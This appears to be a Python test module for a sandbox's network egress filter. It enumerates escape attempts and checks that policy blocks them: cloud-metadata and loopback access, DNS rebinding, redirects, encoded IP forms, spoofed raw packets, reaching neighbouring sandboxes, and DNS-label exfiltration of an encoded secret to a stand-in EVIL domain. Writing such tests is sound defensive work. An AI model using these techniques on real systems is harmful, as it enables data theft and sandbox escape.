"""Tricks to come to other places: closed addresses, names that lead there, other resolvers, packets, neighbours."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import socket
import struct
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager

from atoll.host import in_netns
from atoll.network import filters, nftables
from atoll.types import Policy, Rule
from tests.integration.network.testbed import EVERYWHERE, PRIVATE, PUBLIC
from tests.security.egress.ground import EVIL, GATEWAY, GOOD, PATIENCE_S, Ground
from tests.security.egress.row import Attempt, Row, SetUp, under

_ANY_NAME = Policy(rules=(Rule(hosts=("*",)),))
_ANY_ADDRESS = Policy(rules=(Rule(addresses=("0.0.0.0/0",)), Rule(hosts=("*",))))
_GOOD = Policy.allow(GOOD)


async def _reaches(ground: Ground, address: str, port: int = 0) -> bool:
    """Whether what a guest sends to an address comes to the server."""
    ground.hurries = True
    await ground.talk(address, port or ground.port, b"\0reached")
    return b"\0reached" in ground.raw()


def _open_all(policy: Policy | str) -> SetUp:
    """Have a policy, and no address count as closed."""

    @asynccontextmanager
    async def set_up(ground: Ground) -> AsyncIterator[None]:
        async with ground.gullible():
            ground.apply(policy)  # type: ignore[arg-type]
            yield

    return set_up


def _to(address: str) -> Attempt:
    async def attempt(ground: Ground) -> bool:
        return await _reaches(ground, address)

    return attempt


def _rebound(address: str) -> Attempt:
    """The name leads to a public address when it is asked for, and elsewhere when the guest connects."""

    async def attempt(ground: Ground) -> bool:
        known = await ground.address()
        ground.names_change(good=address)
        return await _reaches(ground, known)

    return attempt


async def _redirected(ground: Ground) -> bool:
    """A client inside follows a redirect to a closed address."""
    place = f"http://169.254.169.254:{ground.port}/"
    ground.target.answer = f"HTTP/1.1 302 x\r\nLocation: {place}\r\nContent-Length: 0\r\n\r\n".encode()
    ground.expects = True
    heard = await ground.talk(
        await ground.address(), ground.port, b"\0\r\nGET / HTTP/1.1\r\nConnection: close\r\n\r\n"
    )
    assert place.encode() in heard
    return await _reaches(ground, "169.254.169.254")


def _addresses() -> list[Row]:
    rows = []
    for address in PRIVATE:
        rows += [
            Row(f"{address} by its address", _to(address), _open_all("internet"), under("internet")),
            Row(
                f"{address} under a rule of all addresses",
                _to(address),
                _open_all(_ANY_ADDRESS),
                under(_ANY_ADDRESS),
            ),
        ]
    closed = (
        "169.254.169.254",
        "10.9.9.9",
        "127.0.0.1",
        "127.9.9.9",
        "0.0.0.0",
        "::1",
        "::ffff:127.0.0.1",
        "::ffff:10.9.9.9",
        "::",
    )
    rows += [
        Row(f"{address} by a name that changes", _rebound(address), _open_all(_ANY_NAME), under(_ANY_NAME))
        for address in closed
    ]

    def own(ground: Ground) -> None:
        ground.settle(())
        ground.apply("internet")

    def own_named(ground: Ground) -> None:
        ground.settle(())
        ground.apply(_ANY_NAME)

    def own_range(ground: Ground) -> None:
        ground.settle(())
        ground.apply(Policy(rules=(Rule(hosts=("*",), addresses=(PUBLIC,)), Rule(addresses=(PUBLIC,)))))

    def open_policy(ground: Ground) -> None:
        ground.settle(EVERYWHERE)
        ground.apply(_ANY_NAME)

    return [
        *rows,
        Row("a closed address by a redirect", _redirected, _open_all(_ANY_ADDRESS), under(_ANY_ADDRESS)),
        Row("this host by its own address", _to(PUBLIC), under("internet"), own),
        Row("this host by a rule of its address", _to(PUBLIC), under("internet"), own_range),
        Row("this host by a name under such a rule", _rebound(PUBLIC), open_policy, own_range),
        Row("this host by a name that changes", _rebound(PUBLIC), open_policy, own_named),
        Row("an address that no rule has", _to(PUBLIC), under("internet"), under(_GOOD)),
        Row(
            "an address that stood for a name of somebody else", _to("198.18.0.1"), _named_first, under(_GOOD)
        ),
        Row("anything without a network", _to(PUBLIC), under("internet"), under("none")),
    ]


def _named_first(ground: Ground) -> None:
    ground.apply(_GOOD)
    named = {"op": "take_over", "link": ground.guest.link.link_id}
    ground.relay.call(named, document=[{"address": "198.18.0.1", "name": GOOD}])


def _asked(name: str, kind: str = "A", server: str = GATEWAY, *, stream: bool = False) -> Attempt:
    """Whether a question, and with it what its labels carry, comes to a nameserver outside."""

    async def attempt(ground: Ground) -> bool:
        await ground.ask(name, kind, server, stream=stream)
        return any(name.lower().rstrip(".") == asked.lower() for asked, _ in ground.names.asked)

    return attempt


def _names() -> list[Row]:
    off, on = under("internet"), under(_GOOD)
    secret = f"c2VjcmV0LXZhbHVl.{EVIL}"
    rows = [
        Row(f"data in the labels of a question for {kind}", _asked(secret, kind), off, on, _knows)
        for kind in ("A", "AAAA", "TXT", "CNAME", "MX", "SRV", "NS", "HTTPS", "ANY", "NULL")
    ]
    forms = ("2130706433", "0x7f000001", "017700000001", "0x7f.1", "127.1", "127.0.0.1")
    rows += [Row(f"an address as a name: {form}", _asked(form), off, under(_ANY_NAME)) for form in forms]
    # The nameserver of this place is asked by datagrams only, which rules by name need.
    open_names = under(Policy(rules=(Rule(hosts=("*",)),), mode="observe"))
    below = f"c2VjcmV0.{GOOD}"
    more = {
        "data in labels below an allowed name": _asked(below),
        "data in labels, asked by TCP": _asked(secret, stream=True),
        "another resolver by UDP": _asked(secret, server="203.0.113.53"),
        "another resolver by TCP": _asked(secret, server="203.0.113.53", stream=True),
        "the resolver of a cloud": _asked(secret, server="169.254.169.253"),
        "a question in other letters with a last dot": _asked(EVIL.upper() + "."),
    }
    rows += [Row(trick, attempt, open_names, on, _knows) for trick, attempt in more.items()]
    reverse = _asked("1.2.0.192.in-addr.arpa", "PTR")
    return [
        *rows,
        Row("data in the labels of a reverse question", reverse, off, on, _knows),
        Row("DNS by HTTPS to an address", _to(PUBLIC), off, on),
        Row(
            "a name that leads to a closed address",
            _leads("10.9.9.9"),
            _open_all(_ANY_NAME),
            under(_ANY_NAME),
        ),
        Row("a name that leads to loopback by IPv6", _leads("::1"), _open_all(_ANY_NAME), under(_ANY_NAME)),
    ]


def _leads(address: str) -> Attempt:
    async def attempt(ground: Ground) -> bool:
        ground.names_change(good=address)
        return await _reaches(ground, await ground.address())

    return attempt


async def _knows(ground: Ground) -> bool:
    return (await ground.address()).startswith("198.18.")


@contextmanager
def _unfiltered(ground: Ground) -> Iterator[None]:
    """Take the packet filter away: then the other end of the cable hears all that the guest sends."""
    ground.apply(_ANY_NAME)
    for family in (socket.AF_INET, socket.AF_INET6):
        with contextlib.suppress(OSError):
            _in_edge(ground, functools.partial(nftables.delete_table, family, filters.TABLE))
    yield


def _in_edge(ground: Ground, work: Callable[[], object]) -> object:
    return in_netns(ground.guest.link._pins.outer, work)


_IP, _RAW, _UDP, _ICMP = socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP, socket.IPPROTO_ICMP


def _datagram(port: int) -> Attempt:
    """A datagram to a port of the other end."""

    async def attempt(ground: Ground) -> bool:
        heard = _in_edge(ground, lambda: socket.socket(_IP, socket.SOCK_DGRAM))
        assert isinstance(heard, socket.socket)
        with heard, ground.guest.socket(kind=socket.SOCK_DGRAM) as sending:
            heard.setblocking(False)
            heard.bind((GATEWAY, port))
            send = functools.partial(sending.sendto, b"\0reached", (GATEWAY, port))
            return await _arrives(ground, heard, send, b"\0reached")

    return attempt


def _packet(protocol: int, payload: bytes, *, source: str = "10.254.0.2") -> Attempt:
    """A packet of the guest's own making, with any source, to the other end."""

    async def attempt(ground: Ground) -> bool:
        heard = _in_edge(ground, lambda: socket.socket(_IP, _RAW, protocol))
        assert isinstance(heard, socket.socket)
        with heard, ground.guest.socket(kind=_RAW, proto=socket.IPPROTO_RAW) as sending:
            heard.setblocking(False)
            ends = socket.inet_aton(source) + socket.inet_aton(GATEWAY)
            head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0) + ends
            send = functools.partial(sending.sendto, head + payload, (GATEWAY, 0))
            return await _arrives(ground, heard, send, payload)

    return attempt


async def _arrives(ground: Ground, heard: socket.socket, send: Callable[[], object], text: bytes) -> bool:
    """Send until it is heard, or until the guest's questions have been answered a few times without it."""
    for _ in range(300 if ground.expects else 3):
        with contextlib.suppress(OSError):
            send()
        if ground.expects:
            await asyncio.sleep(0.02)
        else:
            await ground.fence()
        with contextlib.suppress(BlockingIOError):
            while True:
                if text in heard.recv(2000):
                    return True
    return False


def _packets() -> list[Row]:
    on = under(_ANY_NAME)
    udp = struct.pack(">HHHH", 999, 4433, 16, 0) + b"\0reached"
    tricks: dict[str, Attempt] = {
        "a datagram": _datagram(4000),
        "QUIC": _datagram(443),
        "a datagram with another source": _packet(_UDP, udp, source="10.9.9.9"),
        "an echo (ICMP)": _packet(_ICMP, struct.pack(">BBHHH", 8, 0, 0xF7F1, 7, 7)),
        "a packet of GRE": _packet(47, b"\0\0\x08\0reached"),
        "a packet of SCTP": _packet(132, b"\0" * 16),
        "a packet inside a packet": _packet(4, b"\x45" + b"\0" * 19),
        "a packet of an unknown protocol": _packet(253, b"reached"),
    }
    rows = [Row(trick, attempt, _unfiltered, on, plainly) for trick, attempt in tricks.items()]
    return [*rows, Row("a connection to a port of the other end", _other_end, _unfiltered, on, plainly)]


async def plainly(ground: Ground) -> bool:
    """The guest's ordinary connections work."""
    return await _reaches(ground, await ground.address())


async def _other_end(ground: Ground) -> bool:
    """A program of another sandbox, or a listener of the relay, that nobody meant the guest to reach."""
    listener = _in_edge(ground, lambda: socket.create_server((GATEWAY, 4000)))
    assert isinstance(listener, socket.socket)
    with listener:
        listener.setblocking(False)
        with contextlib.suppress(OSError):
            (await ground.guest.connect(GATEWAY, 4000)).close()
        with contextlib.suppress(BlockingIOError):
            listener.accept()[0].close()
            return True
    return False


async def _neighbour(ground: Ground) -> bool:
    """A port inside another sandbox, which has the same address. With the check off, from the far side of that one."""
    other = await ground.neighbour()
    ground.apply(_ANY_ADDRESS, guest=other)
    with other.listen(4000) as listener:
        listener.settimeout(0)
        here = other.link._pins.outer if ground.expects else ground.guest.link.netns
        with in_netns(here, socket.socket) as caller, contextlib.suppress(OSError):
            caller.settimeout(PATIENCE_S)
            await asyncio.to_thread(caller.connect, ("10.254.0.2", 4000))
        with contextlib.suppress(BlockingIOError):
            listener.accept()[0].close()
            return True
    return False


async def _neighbours_name(ground: Ground) -> bool:
    """An address that stands for a name of another sandbox only."""
    other = await ground.neighbour()
    ground.apply(Policy.allow(EVIL), guest=other)
    here = ground.guest
    ground.guest = other
    address = await ground.address(EVIL)
    ground.guest = other if ground.expects else here
    try:
        return await _reaches(ground, address)
    finally:
        ground.guest = here


def _neighbours() -> list[Row]:
    both = under(_ANY_ADDRESS)
    return [
        Row("a port of another sandbox", _neighbour, both, both),
        Row("a name of another sandbox, by the address that it has there", _neighbours_name, both, both),
    ]


ROWS = [*_addresses(), *_names(), *_packets(), *_neighbours()]
